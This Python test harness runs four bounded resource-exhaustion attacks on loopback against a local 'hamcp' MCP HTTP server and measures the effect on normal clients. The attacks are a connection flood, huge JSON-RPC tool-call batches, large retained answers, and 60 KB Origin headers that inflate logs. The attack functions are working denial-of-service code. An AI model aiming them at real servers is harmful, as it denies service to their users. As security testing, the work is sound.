#!/usr/bin/env python3
"""Resource-exhaustion attacks of issue 8 (weaknesses 1, 2, 4, 9) against
`hamcp --http --demo` on loopback, measuring what a normal client sees.

For each attack and run: the server is started fresh under a 1,024 open-file
limit (the usual default), a normal client sends tools/list on its own
keep-alive connection every 10 ms and a second one asks GET /healthz on a
fresh connection every 50 ms, while the attack runs. Reported: p99 latency of
the keep-alive client, its failures, the share of fresh connections served,
peak and after-attack RSS of hamcp, and attack-specific figures. Every loop is
bounded in count and time; only 127.0.0.1 is used.

usage: exhaustion.py BINARY [--runs 3] [--attacks connections,batch,retained,origin]
"""
import argparse, http.client, json, os, socket, statistics, subprocess, tempfile, threading, time

HDR = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}


def rss_kb(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def post(conn, body, sid=None, timeout=None, extra=None):
    h = dict(HDR)
    if sid:
        h["Mcp-Session-Id"] = sid
        h["MCP-Protocol-Version"] = "2025-11-25"
    if extra:
        h.update(extra)
    conn.request("POST", "/mcp", body, h)
    r = conn.getresponse()
    data = r.read()
    return r.status, r.getheader("mcp-session-id"), data


def open_session(port):
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    init = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
            "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "bench", "version": "1"}}}
    _, sid, _ = post(c, json.dumps(init))
    post(c, json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}), sid)
    return c, sid


def call(i, tool, args):
    return {"jsonrpc": "2.0", "id": i, "method": "tools/call", "params": {"name": tool, "arguments": args}}


class Server:
    def __init__(self, binary, port, nofile=1024):
        self.dir = tempfile.mkdtemp(prefix="hamcp-exh-")
        os.chmod(self.dir, 0o700)
        self.log = open(os.path.join(self.dir, "stderr.log"), "wb")
        self.proc = subprocess.Popen(["prlimit", f"--nofile={nofile}:{nofile}", binary, "--http", "--demo", "--port", str(port),
                                      "--data-dir", self.dir], stdout=subprocess.DEVNULL, stderr=self.log)
        self.port = port
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
                break
            except OSError:
                time.sleep(0.05)
        time.sleep(0.5)  # mirror sync of the demo home

    def log_bytes(self):
        self.log.flush()
        return os.path.getsize(self.log.name)

    def stop(self):
        self.proc.terminate()
        try:
            self.proc.wait(10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        self.log.close()


class Probes:
    """The normal client, the fresh-connection client and the RSS sampler."""

    def __init__(self, server):
        self.server, self.stop = server, threading.Event()
        self.lat, self.fail, self.rss = [], 0, []
        self.fresh_ok, self.fresh_all = {"127.0.0.1": 0, "127.0.0.2": 0}, {"127.0.0.1": 0, "127.0.0.2": 0}
        self.conn, self.sid = open_session(server.port)
        self.threads = [threading.Thread(target=self.keepalive), threading.Thread(target=self.sample),
                        threading.Thread(target=self.fresh, args=("127.0.0.1",)),
                        threading.Thread(target=self.fresh, args=("127.0.0.2",))]
        for t in self.threads:
            t.start()

    def keepalive(self):
        body = json.dumps({"jsonrpc": "2.0", "id": 7, "method": "tools/list"})
        for _ in range(6000):
            if self.stop.is_set():
                break
            t0 = time.monotonic()
            try:
                status, _, _ = post(self.conn, body, self.sid)
                ok = status == 200
            except Exception:
                ok = False
                self.conn = http.client.HTTPConnection("127.0.0.1", self.server.port, timeout=30)
            self.lat.append((time.monotonic() - t0) * 1000)
            self.fail += 0 if ok else 1
            time.sleep(0.01)

    def fresh(self, source):
        """A new connection per request, from `source` (127.0.0.2: another client address)."""
        for _ in range(1200):
            if self.stop.is_set():
                break
            self.fresh_all[source] += 1
            try:
                c = http.client.HTTPConnection("127.0.0.1", self.server.port, timeout=2, source_address=(source, 0))
                c.request("GET", "/healthz")
                self.fresh_ok[source] += 1 if c.getresponse().status == 200 else 0
                c.close()
            except Exception:
                pass
            time.sleep(0.05)

    def sample(self):
        for _ in range(3000):
            if self.stop.is_set():
                break
            self.rss.append(rss_kb(self.server.proc.pid))
            time.sleep(0.05)

    def finish(self):
        self.stop.set()
        for t in self.threads:
            t.join(70)
        lat = sorted(self.lat) or [1e9]
        return {"p99_ms": round(lat[min(len(lat) - 1, len(lat) * 99 // 100)], 2), "normal_failures": self.fail,
                "normal_requests": len(self.lat),
                "fresh_served_pct": {k: round(100.0 * self.fresh_ok[k] / max(1, self.fresh_all[k]), 1) for k in self.fresh_ok},
                "peak_rss_mb": round(max(self.rss or [0]) / 1024, 1)}


def attack_connections(server):
    """W1: 1,000 keep-alive connections from one address, each after one GET /healthz, held 5 s."""
    socks, statuses = [], {}
    deadline = time.monotonic() + 30  # a locked-out server answers nothing: bound the whole attack
    for _ in range(1000):
        if time.monotonic() > deadline:
            break
        try:
            s = socket.create_connection(("127.0.0.1", server.port), timeout=0.5)
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
            head = s.recv(4096).split(b" ", 2)
            code = head[1].decode() if len(head) > 1 else "none"
        except OSError:
            code, s = "error", None
        statuses[code] = statuses.get(code, 0) + 1
        if s:
            socks.append(s)
    time.sleep(5)
    for s in socks:
        s.close()
    return {"statuses": statuses}


def attack_batch(server):
    """W2: 4 parallel POSTs, each a batch of 3,000 ha_get_logs calls (60 s cap each)."""
    results = []

    def one(k):
        c, sid = open_session(server.port)
        c.timeout = 60
        body = json.dumps([call(10000 * k + i, "ha_get_logs", {}) for i in range(3000)])
        t0 = time.monotonic()
        try:
            status, _, data = post(c, body, sid)
        except Exception as e:
            status, data = str(type(e).__name__), b""
        results.append({"status": status, "seconds": round(time.monotonic() - t0, 2), "bytes": len(data)})

    ts = [threading.Thread(target=one, args=(k,)) for k in range(4)]
    for t in ts:
        t.start()
    for t in ts:
        t.join(90)
    return {"batches": results}


def attack_retained(server):
    """W4: 8 sessions x 16 answers of ~2 MB (a batch of 64 full overviews each), sessions kept open."""
    sizes, statuses = [], {}

    def one(k):
        c, sid = open_session(server.port)
        for i in range(16):
            body = json.dumps([call(1000 * i + j, "ha_get_overview", {"detail": "full"}) for j in range(64)])
            try:
                status, _, data = post(c, body, sid)
            except Exception as e:
                status, data = type(e).__name__, b""
            statuses[str(status)] = statuses.get(str(status), 0) + 1
            sizes.append(len(data))

    ts = [threading.Thread(target=one, args=(k,)) for k in range(8)]
    for t in ts:
        t.start()
    for t in ts:
        t.join(120)
    time.sleep(1)
    return {"answer_mb": round(statistics.median(sizes or [0]) / 2**20, 2), "statuses": statuses,
            "rss_after_mb": round(rss_kb(server.proc.pid) / 1024, 1)}


def attack_origin(server):
    """W9: 1,000 requests with a 60 KB refused Origin, on 4 connections."""
    before = server.log_bytes()

    def one():
        c = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
        h = dict(HDR)
        h["Origin"] = "http://" + "e" * 60000 + ".example"
        for i in range(250):
            try:
                c.request("POST", "/mcp", json.dumps({"jsonrpc": "2.0", "id": i, "method": "tools/list"}), h)
                c.getresponse().read()
            except Exception:
                c = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)

    ts = [threading.Thread(target=one) for _ in range(4)]
    for t in ts:
        t.start()
    for t in ts:
        t.join(120)
    time.sleep(0.5)
    return {"log_growth_kb": round((server.log_bytes() - before) / 1024, 1)}


ATTACKS = {"connections": attack_connections, "batch": attack_batch, "retained": attack_retained, "origin": attack_origin}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("binary")
    ap.add_argument("--runs", type=int, default=3)
    ap.add_argument("--port", type=int, default=18870)
    ap.add_argument("--attacks", default=",".join(ATTACKS))
    ap.add_argument("--nofile", type=int, default=1024, help="open-file limit of hamcp (connections attack: 512)")
    a = ap.parse_args()
    for name in a.attacks.split(","):
        for run in range(a.runs):
            server = Server(a.binary, a.port, a.nofile)
            try:
                probes = Probes(server)
                idle_rss = round(rss_kb(server.proc.pid) / 1024, 1)
                extra = ATTACKS[name](server)
                out = probes.finish()
            finally:
                server.stop()
            out.update(extra)
            out.update({"attack": name, "run": run + 1, "nofile": a.nofile, "idle_rss_mb": idle_rss,
                        "load1": round(os.getloadavg()[0], 2)})
            print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
